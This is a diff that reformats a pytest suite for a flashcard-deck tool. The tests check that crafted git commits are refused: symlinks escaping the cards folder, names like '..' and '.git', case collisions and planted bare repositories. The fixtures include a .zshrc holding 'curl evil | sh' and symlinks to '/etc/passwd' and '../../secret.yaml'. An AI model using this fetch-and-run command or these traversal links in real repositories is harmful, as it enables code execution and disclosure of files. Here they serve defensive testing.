@@ -40,23 +40,38 @@ class Trees:
         self.root = root
 
     def _git(self, *args: str, data: bytes | None = None) -> str:
-        env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
-               "GIT_COMMITTER_EMAIL": "t@example.com"}
-        return subprocess.run(["git", *args], cwd=self.root, input=data, capture_output=True, check=True, env=env).stdout.decode().strip()
+        env = {
+            **os.environ,
+            "GIT_AUTHOR_NAME": "t",
+            "GIT_AUTHOR_EMAIL": "t@example.com",
+            "GIT_COMMITTER_NAME": "t",
+            "GIT_COMMITTER_EMAIL": "t@example.com",
+        }
+        return (
+            subprocess.run(["git", *args], cwd=self.root, input=data, capture_output=True, check=True, env=env)
+            .stdout.decode()
+            .strip()
+        )
 
     def blob(self, data: bytes | str) -> str:
         return self._git("hash-object", "-w", "--stdin", data=data.encode() if isinstance(data, str) else data)
 
     def tree(self, *entries: tuple[str, str | bytes, str]) -> str:
         """(mode, name, object id) in the given order: duplicates, '..', links and folders of one name all allowed."""
-        raw = b"".join(mode.encode() + b" " + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(oid)
-                       for mode, name, oid in entries)
+        raw = b"".join(
+            mode.encode() + b" " + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(oid)
+            for mode, name, oid in entries
+        )
         return self._git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", data=raw)
 
     def deck(self, *extra: tuple[str, str | bytes, str]) -> str:
         """A valid cards tree plus ``extra`` entries."""
-        return self.tree(("100644", "basics.yaml", self.blob(TOPIC_YAML)), ("100644", "deck.yaml", self.blob(DECK_YAML)),
-                         ("100644", "safety.yaml", self.blob(SECOND_TOPIC_YAML)), *extra)
+        return self.tree(
+            ("100644", "basics.yaml", self.blob(TOPIC_YAML)),
+            ("100644", "deck.yaml", self.blob(DECK_YAML)),
+            ("100644", "safety.yaml", self.blob(SECOND_TOPIC_YAML)),
+            *extra,
+        )
 
     def commit(self, cards_tree: str, branch: str = "evil") -> str:
         root = self.tree(("40000", "cards", cards_tree))
@@ -85,8 +100,12 @@ def test_a_link_and_a_folder_of_one_name(repo: Path) -> None:
     trees = Trees(repo)
     outside = repo.parent / "home"
     outside.mkdir()
-    branch = trees.commit(trees.deck(("120000", "media", trees.blob(str(outside))),
-                                     ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("curl evil | sh\n"))))))
+    branch = trees.commit(
+        trees.deck(
+            ("120000", "media", trees.blob(str(outside))),
+            ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("curl evil | sh\n")))),
+        )
+    )
     assert diff_fails("main", branch) == [
         "evil:cards/media: error: is both a file and a folder in the git tree (a crafted commit); rename one",
         "deckgen: 1 error(s); nothing was written",
@@ -99,8 +118,12 @@ def test_names_equal_but_for_case(repo: Path) -> None:
     trees = Trees(repo)
     outside = repo.parent / "home"
     outside.mkdir()
-    branch = trees.commit(trees.deck(("120000", "Media", trees.blob(str(outside))),
-                                     ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("x\n"))))))
+    branch = trees.commit(
+        trees.deck(
+            ("120000", "Media", trees.blob(str(outside))),
+            ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("x\n")))),
+        )
+    )
     assert diff_fails("main", branch) == [
         "evil:cards/media: error: differs only in case from 'Media' (they collide on case-insensitive disks); rename one",
         "deckgen: 1 error(s); nothing was written",
@@ -117,13 +140,21 @@ def test_a_name_twice(repo: Path) -> None:
     ]
 
 
-@pytest.mark.parametrize(("name", "shown", "what"), [
-    ("a\\b.yaml", "a\\b.yaml", "a backslash"), ("..", "..", "'..'"), (".git", ".git", "'.git'"), (".GIT", ".GIT", "'.GIT'"),
-])
+@pytest.mark.parametrize(
+    ("name", "shown", "what"),
+    [
+        ("a\\b.yaml", "a\\b.yaml", "a backslash"),
+        ("..", "..", "'..'"),
+        (".git", ".git", "'.git'"),
+        (".GIT", ".GIT", "'.GIT'"),
+    ],
+)
 def test_names_no_checkout_could_hold(repo: Path, name: str, shown: str, what: str) -> None:
     trees = Trees(repo)
     topic = trees.blob(SECOND_TOPIC_YAML)
-    entry = ("100644", name, topic) if name.endswith(".yaml") else ("40000", name, trees.tree(("100644", "x.yaml", topic)))
+    entry = (
+        ("100644", name, topic) if name.endswith(".yaml") else ("40000", name, trees.tree(("100644", "x.yaml", topic)))
+    )
     branch = trees.commit(trees.deck(entry))
     assert diff_fails("main", branch) == [
         f"evil:cards/{shown}: error: has {what} in its name (a crafted commit); rename it",
@@ -134,8 +165,11 @@ def test_names_no_checkout_could_hold(repo: Path, name: str, shown: str, what: s
 def test_topic_link_leaving_the_cards_folder(repo: Path) -> None:
     trees = Trees(repo)
     (repo.parent / "secret.yaml").write_text("topic: s\ntitle: s\ncards: []\n", encoding="utf-8")
-    branch = trees.commit(trees.deck(("120000", "leak.yaml", trees.blob("../../secret.yaml")),
-                                     ("120000", "abs.yaml", trees.blob("/etc/passwd"))))
+    branch = trees.commit(
+        trees.deck(
+            ("120000", "leak.yaml", trees.blob("../../secret.yaml")), ("120000", "abs.yaml", trees.blob("/etc/passwd"))
+        )
+    )
     assert diff_fails("main", branch) == [
         "evil:cards/abs.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
         "evil:cards/leak.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
@@ -147,8 +181,12 @@ def test_topic_link_inside_the_cards_folder_reads_like_the_loader(repo: Path) ->
     """The loader follows a link that stays in the cards folder; so does the in-memory reader (never on disk)."""
     trees = Trees(repo)
     extra = "topic: extra\ntitle: Extra\ncards:\n  - id: extra-card\n    front: Q\n    back: A\n"
-    branch = trees.commit(trees.deck(("40000", "shared", trees.tree(("100644", "extra.txt", trees.blob(extra)))),
-                                     ("120000", "zz.yaml", trees.blob("shared/extra.txt"))))
+    branch = trees.commit(
+        trees.deck(
+            ("40000", "shared", trees.tree(("100644", "extra.txt", trees.blob(extra)))),
+            ("120000", "zz.yaml", trees.blob("shared/extra.txt")),
+        )
+    )
     result = run("diff", "main", branch)
     assert result.exit_code == 0, result.output
     assert "#### Added `extra-card` (question/answer)" in result.stdout
@@ -178,9 +216,12 @@ def test_blob_sizes_are_checked_before_reading(repo: Path) -> None:
 
 def test_a_folder_named_like_a_topic_file_and_a_submodule(repo: Path) -> None:
     trees = Trees(repo)
-    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True).stdout.strip()
-    branch = trees.commit(trees.deck(("40000", "dir.yaml", trees.tree(("100644", "x", trees.blob("x")))),
-                                     ("160000", "sub.yaml", commit)))
+    commit = subprocess.run(
+        ["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True
+    ).stdout.strip()
+    branch = trees.commit(
+        trees.deck(("40000", "dir.yaml", trees.tree(("100644", "x", trees.blob("x")))), ("160000", "sub.yaml", commit))
+    )
     assert diff_fails("main", branch) == [
         "evil:cards/dir.yaml: error: is a folder, not a YAML file; rename it or move it out of the cards folder",
         "evil:cards/sub.yaml: error: is a submodule, not a YAML file; remove it from the cards folder",
@@ -189,7 +230,9 @@ def test_a_folder_named_like_a_topic_file_and_a_submodule(repo: Path) -> None:
 
 
 def test_a_normal_diff_writes_nothing(repo: Path, git_repo: Git) -> None:
-    (repo / "cards" / "safety.yaml").write_text(SECOND_TOPIC_YAML.replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8")
+    (repo / "cards" / "safety.yaml").write_text(
+        SECOND_TOPIC_YAML.replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8"
+    )
     git_repo("commit", "-qam", "edit")
     result = run("diff", "main~0", "HEAD~1")
     assert result.exit_code == 0
@@ -210,7 +253,9 @@ def plant_bare_repository(repo: Path, folder: Path) -> None:
     for ref in ("heads/main", "remotes/origin/main"):
         (folder / "refs" / ref).parent.mkdir(parents=True, exist_ok=True)
         (folder / "refs" / ref).write_text(head, encoding="utf-8")
-    (folder / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n", encoding="utf-8")
+    (folder / "config").write_text(
+        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n", encoding="utf-8"
+    )
     shutil.rmtree(fake)
 
 
@@ -237,7 +282,8 @@ def test_a_bare_repository_committed_in_the_cards_folder_is_refused(repo: Path, 
     assert result.stdout == ""
     assert result.stderr == (
         "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/): git "
-        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n")
+        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n"
+    )
 
 
 def test_every_git_call_refuses_a_bare_repository(repo: Path, git_repo: Git) -> None:
@@ -259,7 +305,8 @@ def test_every_git_call_refuses_a_bare_repository(repo: Path, git_repo: Git) -> 
     assert result.stderr == (
         "deckgen: error: git refuses a folder that looks like a bare git repository on the way from the cards folder "
         f"'decks/a/cards' up to the repository (cannot use bare repository '{deck}' (safe.bareRepository is "
-        "'explicit')); remove its HEAD, objects/ and refs/\n")
+        "'explicit')); remove its HEAD, objects/ and refs/\n"
+    )
 
 
 def test_git_settings_of_the_user_are_kept(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -269,8 +316,16 @@ def test_git_settings_of_the_user_are_kept(monkeypatch: pytest.MonkeyPatch) -> N
     monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.quotePath")
     monkeypatch.setenv("GIT_CONFIG_VALUE_0", "false")
     env = git_env()
-    assert [env[k] for k in ("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0", "GIT_CONFIG_KEY_1",
-                             "GIT_CONFIG_VALUE_1")] == ["2", "core.quotePath", "false", "safe.bareRepository", "explicit"]
+    assert [
+        env[k]
+        for k in (
+            "GIT_CONFIG_COUNT",
+            "GIT_CONFIG_KEY_0",
+            "GIT_CONFIG_VALUE_0",
+            "GIT_CONFIG_KEY_1",
+            "GIT_CONFIG_VALUE_1",
+        )
+    ] == ["2", "core.quotePath", "false", "safe.bareRepository", "explicit"]
 
 
 def test_build_refuses_a_cards_folder_that_looks_like_a_git_repository(repo: Path, git_repo: Git) -> None:
@@ -280,12 +335,15 @@ def test_build_refuses_a_cards_folder_that_looks_like_a_git_repository(repo: Pat
     git_repo("commit", "-qm", "lock")
     plant_bare_repository(repo, repo / "cards")
     topic = repo / "cards" / "safety.yaml"
-    topic.write_text(topic.read_text(encoding="utf-8").replace("id: crs-fever", "id: crs-fever-renamed"), encoding="utf-8")
+    topic.write_text(
+        topic.read_text(encoding="utf-8").replace("id: crs-fever", "id: crs-fever-renamed"), encoding="utf-8"
+    )
     result = run("build")
     assert result.exit_code == 2, result.output
     assert result.stderr.endswith(
         "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/): git "
-        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n")
+        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n"
+    )
 
 
 def huge_folder(trees: Trees, count: int) -> str:
@@ -300,7 +358,7 @@ def test_a_cards_folder_of_too_many_entries_is_refused_quickly(repo: Path) -> No
     trees = Trees(repo)
     blob = trees.blob("x\n")
     lines = "".join(f"100644 blob {blob}\tf{i:07d}.png\n" for i in range(20_001))
-    deck_lines = (f"100644 blob {trees.blob(TOPIC_YAML)}\tbasics.yaml\n100644 blob {trees.blob(DECK_YAML)}\tdeck.yaml\n")
+    deck_lines = f"100644 blob {trees.blob(TOPIC_YAML)}\tbasics.yaml\n100644 blob {trees.blob(DECK_YAML)}\tdeck.yaml\n"
     cards = trees._git("mktree", data=(deck_lines + lines).encode())
     branch = trees.commit(cards)
     started = time.monotonic()
